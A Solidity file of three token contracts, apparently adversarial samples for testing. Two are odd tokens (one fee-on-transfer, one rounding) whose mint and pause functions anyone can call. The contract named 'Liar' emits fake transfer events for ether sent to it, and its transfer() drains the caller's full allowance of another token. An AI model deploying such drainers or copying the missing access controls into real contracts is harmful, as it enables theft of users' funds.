// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Token with 18 decimals that burns a tenth of every transfer, and that its
/// maker can pause.
contract FeeToken {
    string public constant name = "Fee Token";
    string public constant symbol = "FEE";
    uint8 public constant decimals = 18;
    bool public paused;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);

    function mint(address to, uint256 value) external {
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function pause() external {
        paused = true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        require(!paused, "Pausable: paused");
        balanceOf[msg.sender] -= value;
        uint256 fee = value / 10;
        balanceOf[to] += value - fee;
        emit Transfer(msg.sender, to, value - fee);
        emit Transfer(msg.sender, address(0), fee);
        return true;
    }
}

/// Token with 18 decimals that counts in shares of what it holds, so that each
/// transfer is rounded; its maker can pause it, and block accounts.
contract ShareToken {
    string public constant name = "Share Token";
    string public constant symbol = "SHR";
    uint8 public constant decimals = 18;
    uint256 public constant pooled = 1_000_003;
    uint256 public constant total = 777_777;
    bool public paused;
    mapping(address => uint256) public shares;
    mapping(address => bool) public blocked;

    error EnforcedPause();

    event Transfer(address indexed from, address indexed to, uint256 value);

    function mint(address to, uint256 value) external {
        shares[to] += value;
    }

    function pause(bool isPaused) external {
        paused = isPaused;
    }

    function blockAccount(address account) external {
        blocked[account] = true;
    }

    function balanceOf(address owner) public view returns (uint256) {
        return (shares[owner] * pooled) / total;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        if (paused) revert EnforcedPause();
        require(!blocked[to], "Blacklistable: account is blacklisted");
        uint256 moved = (value * total) / pooled;
        shares[msg.sender] -= moved;
        shares[to] += moved;
        emit Transfer(msg.sender, to, value);
        return true;
    }
}

/// Says that it has sent tokens, and takes coins.
contract Liar {
    string public constant symbol = "USDL";
    uint8 public constant decimals = 6;
    address public hidden;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address token) {
        hidden = token;
    }

    function claim() external payable {
        emit Transfer(address(this), msg.sender, 1_000_000_000);
    }

    /// Called by its name it is a transfer; it takes another token.
    function transfer(address, uint256) external returns (bool) {
        uint256 all = Token(hidden).allowance(msg.sender, address(this));
        Token(hidden).transferFrom(msg.sender, address(this), all);
        return true;
    }

    function allowance(address, address) external pure returns (uint256) {
        return 0;
    }
}

interface Token {
    function allowance(address, address) external view returns (uint256);
    function transferFrom(address, address, uint256) external returns (bool);
}
